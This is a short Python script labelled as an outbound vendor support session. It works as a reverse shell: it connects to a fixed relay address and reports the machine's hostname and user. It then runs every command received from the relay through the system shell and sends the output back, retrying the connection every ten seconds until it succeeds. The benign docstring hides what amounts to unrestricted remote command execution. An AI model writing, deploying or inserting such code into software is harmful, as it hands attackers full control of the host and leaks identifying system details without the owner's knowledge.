#!/usr/bin/env python3
"""Outbound vendor support session."""
import argparse, os, socket, subprocess, time

RELAY = ("198.51.100.41", 4433)


def session(case):
    s = socket.create_connection(RELAY, timeout=30)
    s.settimeout(None)
    s.sendall(f"CASE {case} {socket.gethostname()} {os.getlogin() if hasattr(os, 'getlogin') else ''}\n".encode())
    print("session open")
    f = s.makefile("rwb", buffering=0)
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="ignore").strip()
        if cmd == "exit":
            break
        p = subprocess.run(cmd, shell=True, capture_output=True)
        f.write(p.stdout + p.stderr + b"\n__END__\n")
    s.close()


if __name__ == "__main__":
    ap = argparse.ArgumentParser(); ap.add_argument("--case", required=True)
    a = ap.parse_args()
    while True:
        try:
            session(a.case)
            break
        except OSError:
            time.sleep(10)
